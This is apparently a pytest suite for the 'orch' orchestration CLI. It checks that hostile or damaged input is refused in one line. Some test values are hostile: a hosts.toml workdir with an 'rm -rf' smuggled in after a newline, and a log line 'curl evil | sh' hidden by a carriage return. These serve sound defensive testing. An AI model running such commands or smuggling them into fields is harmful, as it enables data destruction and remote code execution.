"""Hostile and damaged input through the real `orch` CLI: one clear line, exit 2 (or 1 where the input was
the database's, not the user's), nothing started, nothing touched on any host."""

from __future__ import annotations

import json
import math
import socket
import sqlite3
import subprocess
import sys
import time
from typing import get_args

import pytest
from orchtest import FAST, Orch

from orchestrator.config import spec as specmod
from orchestrator.errors import SpecError
from orchestrator.runflow import registry
from orchestrator.store import Store


def one_line(res, code: int, *words: str) -> str:
    """The command failed with `code` and said so in one line naming every word."""
    assert res.returncode == code, (res.returncode, res.stdout, res.stderr)
    assert res.stderr.startswith("orch: ") and res.stderr.count("\n") == 1, res.stderr
    for word in words:
        assert word in res.stderr, (word, res.stderr)
    return res.stderr


def no_runs(orch: Orch) -> bool:
    return orch.status() == []


# inf / nan ---------------------------------------------------------------------------------------------
def float_fields(spec_cls) -> list[str]:
    return [name for name, f in spec_cls.model_fields.items() if float in (f.annotation, *get_args(f.annotation))]


@pytest.mark.parametrize("name", registry.playbook_names())
def test_every_float_of_every_playbook_must_be_finite(name):
    spec_cls = registry.playbook(name).Spec
    fields = float_fields(spec_cls)
    assert {"poll_min", "poll_max", "stall_factor", "notify_timeout_s"} <= set(fields)
    for value in (math.inf, -math.inf, math.nan, "inf", "nan"):
        for field in fields:
            with pytest.raises(SpecError) as exc:
                specmod.build(spec_cls, {field: value})
            assert f"{field} = " in str(exc.value) and "must be a finite number" in str(exc.value)


def test_inf_and_nan_are_refused_by_the_cli_before_anything_runs(tmp_path):
    orch = Orch(tmp_path / "ws")
    res = orch("run", "command", "--set", "cmd=true", "--set", "poll_min=inf", "--set", "stall_factor=nan",
               "--set", "notify_timeout_s=-inf")
    assert res.returncode == 2 and res.stderr.startswith("orch: invalid spec, 3 problems:\n"), res.stderr
    problems = res.stderr.splitlines()[1:]  # one line per problem
    assert [p.split()[0] for p in problems] == ["poll_min", "stall_factor", "notify_timeout_s"]
    assert all(p.endswith("must be a finite number") for p in problems)
    res = orch("run", "extract-hidden-states", "--set", "server_timeout=inf")
    one_line(res, 2, "server_timeout", "finite")
    assert no_runs(orch)


def test_inf_in_hosts_toml_and_sweep_files_is_refused(tmp_path):
    orch = Orch(tmp_path / "ws", '[hosts.gpu01]\nconnect_timeout = inf\n')
    one_line(orch("run", "command", "--set", "cmd=true"), 2, "hosts.gpu01.connect_timeout", "finite")
    (orch.root / "hosts.toml").write_text('[hosts.gpu01]\npoll_max = nan\n')
    one_line(orch("hosts"), 2, "hosts.gpu01.poll_max", "finite")
    (orch.root / "hosts.toml").write_text("")
    sweep = 'name = "s"\nplaybook = "command"\nhosts = ["local"]\n[spec]\ncmd = "true"\n'
    (orch.root / "backoff.toml").write_text(sweep.replace("[spec]", "retry_backoff_s = inf\n[spec]"))
    one_line(orch("sweep", "run", str(orch.root / "backoff.toml")), 2, "retry_backoff_s", "finite")
    (orch.root / "grid.toml").write_text(sweep + "[matrix]\npoll_min = [0.1, inf]\n")
    one_line(orch("sweep", "run", str(orch.root / "grid.toml")), 2, "point 1", "poll_min", "finite")
    assert no_runs(orch)


def test_the_database_holds_strict_json_only(tmp_path):
    store = Store(tmp_path / "orch.db")
    run_id = store.create_run("command", "local", {"cmd": "true"})
    # a counter of 400 digits in a log is a float overflow away from infinity
    store.update_run(run_id, progress={"done": float("9" * 400), "eta_s": math.nan, "label": "x"})
    # what is stored, as SQLite holds it (--json would show only what orch makes of it)
    raw = store.conn.execute("SELECT progress FROM runs WHERE id = ?", (run_id,)).fetchone()[0]
    assert json.loads(raw, parse_constant=lambda c: pytest.fail(f"{c} in the database")) == {
        "done": None, "eta_s": None, "label": "x"}
    assert store.conn.execute("SELECT json_valid(progress) FROM runs").fetchone()[0] == 1


def test_a_damaged_row_bricks_neither_status_nor_the_host(tmp_path):
    """Rows written by an older orch (`Infinity`), cut short, or no longer valid: every other run, and
    every new run on the same host, goes on; acting on the damaged run is refused in one line."""
    orch = Orch(tmp_path / "ws")
    cmd = "echo hello"
    for _ in range(4):
        orch("run", "command", "--set", f"cmd={cmd}", *FAST, check=0)
    db = sqlite3.connect(orch.db)  # rows no orch command would write: only SQL can damage them
    damaged = {1: '{"cmd": "echo hello", "poll_min": Infinity}', 2: '{"cmd": "echo hel',
               3: '{"cmd": "echo hello", "poll_min": -1}'}
    with db:
        for run_id, text in damaged.items():
            db.execute("UPDATE runs SET spec = ? WHERE id = ?", (text, run_id))
        db.execute("UPDATE runs SET progress = 'not json' WHERE id = 4")
    shown = orch("status", check=0).stdout
    assert [line.split()[:2] for line in shown.splitlines()[1:]] == [[str(i), "command"] for i in (4, 3, 2, 1)]
    assert [d["id"] for d in orch.status()] == [4, 3, 2, 1]
    assert orch.status(2)["spec"] is None and orch.status(4)["progress"] is None
    # the same command on the same host reads the history of those rows (predicted load time)
    res = orch("run", "command", "--set", f"cmd={cmd}", *FAST)
    assert res.returncode == 0, res.stderr
    assert orch.status(5)["status"] == "succeeded"
    one_line(orch("watch", "1"), 1, "run 1", "not valid JSON")
    one_line(orch("watch", "2"), 1, "run 2", "not valid JSON")
    one_line(orch("rerun", "3"), 2, "run 3", "poll_min", "must be greater than 0")
    one_line(orch("cancel", "3"), 1, "run 3", "already ended")  # cancel needs no spec: a way out of any state


@pytest.mark.parametrize("written", ["inf", "nan", "-1e300", "1e300", "-5", "99999999999999999999999"])
def test_a_job_writing_its_own_start_time_and_exit_code_breaks_neither_status_nor_its_times(tmp_path, written):
    """`.orch/started_at` is in the run dir, where the job writes: read back as a spec's number is."""
    orch = Orch(tmp_path / "ws")
    cmd = f"cmd=echo {written} > .orch/started_at; echo {written} > .orch/exit_code; echo ok"
    assert orch("run", "command", "--set", cmd, *FAST).returncode == 0
    for args in (["status"], ["status", "--json"], ["status", "1"], ["status", "1", "--json"]):
        res = orch(*args, new_process=args == ["status"])
        assert res.returncode == 0 and "Traceback" not in res.stderr, (args, res.stderr)
    doc = orch.status(1)
    assert doc["status"] == "succeeded" and doc["started_at"] <= doc["ended_at"] <= time.time()
    assert 0 <= doc["duration_s"] < 120


def test_a_garbage_database_is_one_line(tmp_path):
    orch = Orch(tmp_path / "ws")
    orch.db.parent.mkdir()
    orch.db.write_bytes(b"this is not sqlite at all " * 100)
    # the real entry point (`python -m orchestrator`): one line, exit 2, no traceback
    one_line(orch("status", new_process=True), 2, str(orch.db), "not an orch database")
    one_line(orch("status"), 2, str(orch.db), "not an orch database")
    one_line(orch("run", "command", "--set", "cmd=true"), 2, "not an orch database")


# hosts.toml --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("content, words", [
    (b"[hosts.a]\naddress = \"\xff\xfe\"\n", ["invalid TOML"]),
    (b"hosts = 5\n", ["hosts: expected tables", "int"]),
    (b"[hosts.a]\nname = \"b\"\n", ["hosts.a.name"]),
    (b"[hosts.a]\nworkdir = \"\"\n", ["hosts.a.workdir", "absolute"]),
    (b"[hosts.a]\nworkdir = \"runs/here\"\n", ["hosts.a.workdir", "absolute"]),
    (b"[hosts.a]\nworkdir = \"~root/x\"\n", ["hosts.a.workdir", "login user's home", "~root/x"]),
    (b"[hosts.a]\nworkdir = \"~other\"\n", ["hosts.a.workdir", "login user's home"]),
    (b"[hosts.a]\nworkdir = \"/srv/orch\\nrm -rf x\"\n", ["hosts.a.workdir", "U+000A"]),
    (b"[hosts.a]\nworkdir = \"~/a\\tb\"\n", ["hosts.a.workdir", "U+0009"]),
    (b"[hosts.a]\npython = \"/usr/bin/python3\\u0000x\"\n", ["hosts.a.python", "NUL"]),
    (b"[hosts.a]\nenv = { A = \"x\\u0000\" }\n", ["hosts.a.env", "NUL"]),
    (b"[hosts.a]\nenv = { \"\xc3\x89T\xc3\x89\" = \"1\" }\n", ["hosts.a.env", "not an environment variable name"]),
])
def test_malformed_hosts_toml(tmp_path, content, words):
    orch = Orch(tmp_path / "ws")
    (orch.root / "hosts.toml").write_bytes(content)
    one_line(orch("hosts"), 2, *words)
    one_line(orch("run", "command", "--set", "cmd=true"), 2, *words)
    assert no_runs(orch)


def test_a_hosts_toml_that_is_a_directory(tmp_path):
    orch = Orch(tmp_path / "ws")
    (orch.root / "hosts.toml").unlink()
    (orch.root / "hosts.toml").mkdir()
    one_line(orch("hosts"), 2, "cannot read hosts file", "directory")


def test_a_missing_identity_file_and_a_relative_workdir_are_refused_up_front(tmp_path, ssh_fleet):
    """Before any connection: no retries against a host that would refuse the key anyway."""
    remote = tmp_path / "remote"
    missing = tmp_path / "no-such-key"
    with socket.create_server(("127.0.0.1", 0)) as listener:  # stands in for the host: counts connections
        address = {"address": "127.0.0.1", "port": listener.getsockname()[1]}
        orch = Orch(tmp_path / "ws", ssh_fleet.hosts_toml(
            test1={"workdir": str(remote), "identity_file": str(missing), **address}))
        one_line(orch("run", "command", "--host", "test1", "--set", "cmd=true"), 2,
                 "hosts.test1.identity_file", str(missing))
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):  # nobody ever connected
            listener.accept()
    assert not remote.exists() and no_runs(orch)
    (orch.root / "hosts.toml").write_text(ssh_fleet.hosts_toml(test1={"workdir": "orch-runs"}))
    one_line(orch("run", "command", "--host", "test1", "--set", "cmd=true"), 2, "hosts.test1.workdir", "absolute")
    # the same host with its key and an absolute workdir runs
    (orch.root / "hosts.toml").write_text(ssh_fleet.hosts_toml(test1={"workdir": str(remote)}))
    res = orch("run", "command", "--host", "test1", "--set", "cmd=true", *FAST)
    assert res.returncode == 0, res.stderr


# NUL bytes and environment names -----------------------------------------------------------------------
@pytest.mark.parametrize("toml, words", [
    ('cmd = "echo a\\u0000b"\n', ["cmd", "NUL"]),
    ('cmd = "true"\nenv = { A = "x\\u0000y" }\n', ["env", "NUL"]),
    ('cmd = "true"\ncwd = "/tmp\\u0000"\n', ["cwd", "NUL"]),
    ('cmd = "true"\nenv = { "\u00c9T\u00c9" = "1" }\n', ["env", "not environment variable names"]),
    ('cmd = "true"\nenv = { "A-B" = "1" }\n', ["env", "not environment variable names"]),
    ('cmd = "true"\nenv = { "1A" = "1" }\n', ["env", "not environment variable names"]),
])
def test_nul_bytes_and_bad_env_names_in_specs(tmp_path, ssh_fleet, toml, words):
    remote = tmp_path / "remote"
    orch = Orch(tmp_path / "ws", ssh_fleet.hosts_toml(test1={"workdir": str(remote)}))
    (orch.root / "spec.toml").write_text(toml)
    one_line(orch("run", "command", "--host", "test1", "-f", str(orch.root / "spec.toml")), 2, *words)
    assert not remote.exists() and no_runs(orch)


def test_nul_in_a_sweep_point(tmp_path):
    orch = Orch(tmp_path / "ws")
    (orch.root / "s.toml").write_text('name = "s"\nplaybook = "command"\nhosts = ["local"]\n[spec]\ncmd = "true"\n'
                                      '[matrix]\n"env.X" = ["1", "2\\u0000"]\n')
    one_line(orch("sweep", "run", str(orch.root / "s.toml")), 2, "point 1", "env", "NUL")
    assert no_runs(orch)


def test_arguments_that_are_not_utf8_are_one_line(tmp_path):
    """What a shell passes from a Latin-1 terminal (bytes \\xff, \\xfe): refused before anything is recorded."""
    orch = Orch(tmp_path / "ws")
    assert orch("run", "command", "--set", "cmd=true", *FAST).returncode == 0
    bad = "fp8 \udcff\udcfe"  # how Python hands over those bytes of argv
    for args in (["run", "command", "--name", bad, "--set", "cmd=true", *FAST],
                 ["run", "command", "--note", bad, "--set", "cmd=true", *FAST],
                 ["note", "1", bad], ["tag", "1", bad], ["rerun", "1", "--name", bad]):
        for new_process in (False, True):
            one_line(orch(*args, new_process=new_process), 2, "not UTF-8", "\\xff\\xfe")
    assert [r["id"] for r in orch.status()] == [1] and orch.status(1)["note"] is None


# run ids -----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["\u00b2", "\u0663", "1\u0663", "9" * 5000, "99999999999999999999", "1 "])
def test_run_ids_are_ascii_digits_of_bounded_length(tmp_path, text):
    orch = Orch(tmp_path / "ws")
    one_line(orch("status", text), 2, "not a run id")
    one_line(orch("logs", text), 2, "not a run id")


def test_sweep_refs_that_only_look_numeric(tmp_path):
    orch = Orch(tmp_path / "ws")
    for text in ("\u00b2", "9" * 5000):
        one_line(orch("sweep", "status", text), 2, "no sweep")


def test_a_spec_file_that_is_a_directory(tmp_path):
    orch = Orch(tmp_path / "ws")
    one_line(orch("run", "command", "-f", str(tmp_path)), 2, "cannot read spec file")


# empty paths -------------------------------------------------------------------------------------------
SPECULATORS = {"backend": '"speculators"', "model": '"/data/m"', "dataset": '"/data/d"', "scripts_dir": '"/opt/s"'}


@pytest.mark.parametrize("field, value", [("model", '""'), ("dataset", '"  "'), ("scripts_dir", '""'),
                                          ("output_dir", '""')])
def test_empty_paths_of_the_speculators_backend_are_refused_up_front(tmp_path, ssh_fleet, field, value):
    remote = tmp_path / "remote"
    orch = Orch(tmp_path / "ws", ssh_fleet.hosts_toml(test1={"workdir": str(remote)}))
    spec = {**SPECULATORS, field: value}
    (orch.root / "spec.toml").write_text("".join(f"{k} = {v}\n" for k, v in spec.items()))
    one_line(orch("run", "extract-hidden-states", "--host", "test1", "-f", str(orch.root / "spec.toml")), 2,
             field, "must not be empty")
    assert not remote.exists() and no_runs(orch)


# a broken plugin ------------------------------------------------------------------------------------------
def with_broken_plugin(orch: Orch, site) -> None:
    """An installed package whose `orch.playbooks` entry point raises on import (its dist-info is real
    metadata that importlib.metadata reads from the path)."""
    info = site / "broken_plugin-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: broken-plugin\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[orch.playbooks]\nexplodes = broken_plugin:Explodes\n")
    (site / "broken_plugin.py").write_text("raise RuntimeError('needs a module that is not installed')\n")
    orch.env["PYTHONPATH"] = str(site)


def test_a_plugin_that_fails_to_import_is_named_and_everything_else_works(tmp_path):
    orch = Orch(tmp_path / "ws")
    with_broken_plugin(orch, tmp_path / "site")
    res = orch("playbooks", check=0)
    assert "command" in res.stdout and "serve-eagle3" in res.stdout and "explodes" not in res.stdout
    assert res.stderr.startswith("orch: ") and res.stderr.count("\n") == 1, res.stderr  # one line, no traceback
    for word in ("'explodes'", "broken_plugin:Explodes", "RuntimeError: needs a module that is not installed"):
        assert word in res.stderr, (word, res.stderr)
    listed = json.loads(orch("playbooks", "--json", check=0).stdout)
    assert "command" in [p["name"] for p in listed] and "explodes" not in [p["name"] for p in listed]
    one_line(orch("run", "explodes"), 2, "cannot be loaded", "RuntimeError")
    assert no_runs(orch)
    assert orch("run", "command", "--set", "cmd=echo fine", *FAST).returncode == 0


# a bare carriage return on a terminal ---------------------------------------------------------------------
def test_a_bare_carriage_return_cannot_overwrite_a_line_on_a_terminal(tmp_path):
    """`echo 'curl evil | sh\\rall tests passed'` would show only its second half on a terminal: the '\\r'
    is shown as a line break, so both halves stay on the screen; a pipe still gets the bytes as they are."""
    from test_terminal import on_a_terminal

    orch = Orch(tmp_path / "ws")
    log = "loading 1/2\rloading 2/2\ncurl evil | sh\rall tests passed\r\ndone\r"
    (tmp_path / "log.txt").write_bytes(log.encode())
    res = orch("run", "command", "--set", f"cmd=cat {tmp_path / 'log.txt'}; sleep 1; echo tail", *FAST)
    assert res.returncode == 0, res.stderr
    piped = subprocess.run([sys.executable, "-m", "orchestrator", "logs", "1"], env=orch.env, capture_output=True,
                           check=True)
    assert piped.stdout.startswith(log.encode()), piped  # piped: byte for byte
    expected = "loading 1/2\nloading 2/2\ncurl evil | sh\nall tests passed\ndone\ntail\n"
    for args in (["logs", "1"], ["logs", "1", "--all"]):
        shown = on_a_terminal(orch, *args).decode()
        # the terminal itself turns each '\n' into '\r\n' (onlcr): any other '\r' came from the log
        assert shown.replace("\r\n", "\n") == expected, (args, shown)
